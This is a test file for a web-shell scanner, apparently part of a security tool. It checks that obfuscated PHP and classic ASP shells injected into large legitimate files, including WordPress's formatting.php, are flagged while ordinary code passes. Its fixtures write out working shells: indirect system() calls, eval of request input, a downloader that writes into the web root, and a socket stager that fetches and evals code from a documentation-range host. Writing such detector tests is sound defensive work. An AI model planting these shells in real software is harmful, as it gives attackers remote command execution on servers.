import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { createScanner } from './scanner.js';
import { longFile } from './scan-test-kit.js';
import { MAX_EXCERPT, MAX_EXCERPTS, phpExcerpts } from './php-excerpts.js';

// A shell injected into a long legitimate file (the reports' supply-chain case) is read in an
// excerpt of the file: the statements around it, as if they were a small file of their own.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// Shells whose names are built in ways the scanner's fold and flow passes read in small files only.
const SHELLS: [string, string][] = [
  ['a name held by a class constant', `class Cfg { const A = 'sys'; const B = 'tem'; } (Cfg::A . Cfg::B)($_GET['c']);`],
  ['a static property read through self::', `class Job { public static $h = 'system'; static function go($x) { (self::$h)($x); } } Job::go($_GET['c']);`],
  ['a closure kept in a variable', `$call = function ($f, $a) { return $f($a); }; $call('system', $_GET['c']);`],
  ['an escaped heredoc evaluated', "$code = <<<EOC\n\\$r = 'system';\n\\$r(\\$_GET['c']);\nEOC;\neval($code);"],
  ['ob_start of a keyed element', `$cfg = ['h' => 'system']; ob_start($cfg['h']); echo $_GET['c']; ob_end_flush();`],
  ['include of a variable holding the request', `$f = $_GET['f']; include($f);`],
  ['a remote file written into the web root', `$t = file_get_contents('http://198.51.100.7/up.txt'); $w = fopen($_SERVER['DOCUMENT_ROOT'] . '/images/up.php', 'w'); fwrite($w, $t); fclose($w);`],
  ['a name from string functions of literals', `$f = str_ireplace('X', '', 'sXyXsXtXeXm'); $f($_GET['c']);`],
  ['a keyed array element called', `$a = ['x' => 'system']; $a['x']($_GET['c']);`],
  ['a socket stager', `$s = stream_socket_client('tcp://203.0.113.9:4444'); $n = unpack('Nn', fread($s, 4)); $code = ''; while (strlen($code) < $n['n']) { $code .= fread($s, $n['n'] - strlen($code)); } eval($code);`],
];

describe('scan: shells injected into a long legitimate file', () => {
  const host = longFile(160);
  it('the host file alone is clean, and longer than the small-file passes read', () => {
    assert.ok(host.length > 64 * 1024);
    assert.equal(scan(host).verdict, 'clean', JSON.stringify(scan(host).findings));
  });
  let ran = 0;
  for (const [name, code] of SHELLS) {
    it(`malicious: ${name}, alone, at the top and at the end of the file, with its line`, () => {
      assert.equal(scan(`<?php ${code}`).verdict, 'malicious', 'the sample alone');
      const nl = host.indexOf('\n');
      const top = `${host.slice(0, nl + 1)}${code}\n${host.slice(nl + 1)}`;
      const end = `${host}\n${code}\n`;
      for (const [where, text, line] of [['top', top, 2], ['end', end, host.split('\n').length + 1]] as const) {
        const r = scan(text);
        assert.equal(r.verdict, 'malicious', `${where}: ${JSON.stringify(r.findings)}`);
        const lines = r.findings.map((f) => f.line).filter((l): l is number => l !== undefined);
        const last = line + code.split('\n').length - 1;
        assert.ok(lines.some((l) => l >= line - 1 && l <= last + 1), `${where}: a finding in lines ${line}-${last} (${lines.join(', ')})`);
      }
      ran++;
    });
  }
  it('ran every sample', () => assert.equal(ran, SHELLS.length));

  const wp = process.env.MAMORI_WP_FORMATTING ?? '/var/cache/mamori-ci/wordpress/usr/share/wordpress/wp-includes/formatting.php';
  it('malicious: each sample appended to WordPress\'s formatting.php (Debian\'s package)', (t) => {
    if (!existsSync(wp)) return t.skip(`${wp} is not here (.ci/run unpacks Debian's wordpress package)`);
    const text = readFileSync(wp, 'latin1');
    assert.equal(scan(text, wp).verdict, 'clean');
    for (const [name, code] of SHELLS) assert.equal(scan(`${text.replace(/\s*$/, '')}\n${code}\n`, wp).verdict, 'malicious', name);
  });
});

describe('scan: excerpts of large files stay quiet where the code is an application\'s', () => {
  it('clean: a large file whose upload handler checks the type (the tiny-uploader rule is not read in excerpts)', () => {
    const upload = `if (isset($_FILES['avatar'])) { $n = $_FILES['avatar']['name']; move_uploaded_file($_FILES['avatar']['tmp_name'], __DIR__ . '/avatars/' . md5($n) . '.png'); }\n`;
    const host = longFile(80);
    assert.notEqual(scan(`${host}\n${upload}`).verdict, 'malicious');
  });
  it('clean: a large file with a backtick inside HTML after "?>" (an excerpt never starts outside PHP)', () => {
    const host = longFile(80);
    const html = `function view_${1}($v) { ?>\n<script>const t = \`\${name} \${$_GET}\`; run(\`id\`);</script>\n<?php echo htmlspecialchars($_GET['q'] ?? ''); }\n`;
    assert.equal(scan(`${host}\n${html}`).verdict, 'clean', JSON.stringify(scan(`${host}\n${html}`).findings));
  });
});

describe('phpExcerpts', () => {
  it('cuts whole statements around each point, within bounds', () => {
    const host = longFile(64);
    const text = `${host}\n$x = 'a;b'; /* ; */ $y = $_GET['q']; $y($x);\n${host.slice(6)}`;
    const ex = phpExcerpts(text, 32 * 1024);
    assert.ok(ex.length > 0 && ex.length <= MAX_EXCERPTS);
    for (const e of ex) {
      assert.ok(e.end - e.start <= MAX_EXCERPT, `${e.end - e.start}`);
      const at = text.indexOf("$y = $_GET['q'];");
      if (e.start <= at && at < e.end) assert.ok(text.slice(e.start, e.end).includes("$x = 'a;b';"), 'the statement before, whole');
    }
    assert.ok(ex.some((e) => text.slice(e.start, e.end).includes("$y = $_GET['q'];")));
  });
  it('none for a small file, a file past 1 MiB, or a file with nothing to cut around', () => {
    assert.deepEqual(phpExcerpts(`<?php $a = $_GET['a'];`, 32 * 1024), []);
    assert.deepEqual(phpExcerpts(`<?php ${'$a = 1;\n'.repeat(200_000)} $b = $_GET['b'];`, 32 * 1024), []);
    assert.deepEqual(phpExcerpts(longFile(40).replace(/\$_GET/g, '$_ENV'), 32 * 1024), []);
  });
  it('at most MAX_EXCERPTS excerpts, however many points, none of them overlapping', () => {
    // (900: an excerpt starts at a function, not at the comments before it, and holds three of them, S22R-3)
    const many = Array.from({ length: 900 }, (_, i) => `function f${i}($g) { return $g($_POST['k${i}']); }\n${'// pad\n'.repeat(200)}`).join('');
    const ex = phpExcerpts(`<?php\n${many}`, 32 * 1024);
    assert.equal(ex.length, MAX_EXCERPTS);
    for (let i = 1; i < ex.length; i++) assert.ok(ex[i]!.start >= ex[i - 1]!.end);
  });
  it('none around input alone: an application reads its input in many places', () => {
    const reads = Array.from({ length: 300 }, (_, i) => `$v${i} = isset($_GET['k${i}']) ? (int) $_GET['k${i}'] : 0;`).join('\n');
    assert.deepEqual(phpExcerpts(`<?php\n${reads}\n`, 1024), []);
  });
  it('an unclosed brace or deep nesting does not break it', () => {
    const deep = `<?php\n${'if (1) {\n'.repeat(400)}$a = $_GET['a'];\n${'x();\n'.repeat(9000)}`;
    const ex = phpExcerpts(deep, 32 * 1024);
    for (const e of ex) assert.ok(e.end - e.start <= MAX_EXCERPT);
  });
});

describe('scan: classic ASP injected into a long page, block by block', () => {
  let page = '<%@ Language="VBScript" %>\n<html><body><table>\n';
  for (let i = 0; page.length < 200_000; i++) page += `<tr><td>Item ${i}</td><td><%= ${i} %></td></tr>\n<% Dim v${i} : v${i} = ${i} * 2 : If v${i} > 10 Then Response.Write("<b>" & v${i} & "</b>") End If %>\n`;
  const shells: [string, string][] = [
    ['a reversed string executed', '<%\nDim c\nc = StrReverse(")""c""(tseuqer lave")\nExecuteGlobal c\n%>'],
    ['a string split and joined, executed', '<%\nDim p\np = Join(Split("e!v!a!l! !r!e!q!u!e!s!t!(!""!c!""!)", "!"), "")\nExecute(p)\n%>'],
    ['character codes of an array, executed', '<%\na = Array(101, 118, 97, 108, 32, 114, 101, 113, 117, 101, 115, 116, 40, 34, 99, 34, 41)\nFor i = 0 To UBound(a) : s = s & Chr(a(i)) : Next\nExecute s\n%>'],
  ];
  it('the page alone is clean', () => assert.equal(scan(page, '/www/list.asp').verdict, 'clean'));
  for (const [name, shell] of shells) {
    it(`malicious: ${name}, in the middle of the page, with its line`, () => {
      assert.equal(scan(shell, '/www/s.asp').verdict, 'malicious', 'alone');
      const cut = page.indexOf('<tr>', page.length >> 1);
      const r = scan(`${page.slice(0, cut)}${shell}\n${page.slice(cut)}`, '/www/list.asp');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      const line = page.slice(0, cut).split('\n').length;
      assert.ok(r.findings.some((f) => f.line !== undefined && f.line >= line && f.line <= line + 5), JSON.stringify(r.findings.map((f) => f.line)));
    });
  }
  it('not malicious: a long page whose block executes a handler named in the code', () => {
    const ok = `${page}<%\nDim h : h = "ShowList"\nExecute "Call " & h & "()"\n%>\n`;
    assert.notEqual(scan(ok, '/www/list.asp').verdict, 'malicious');
  });
});
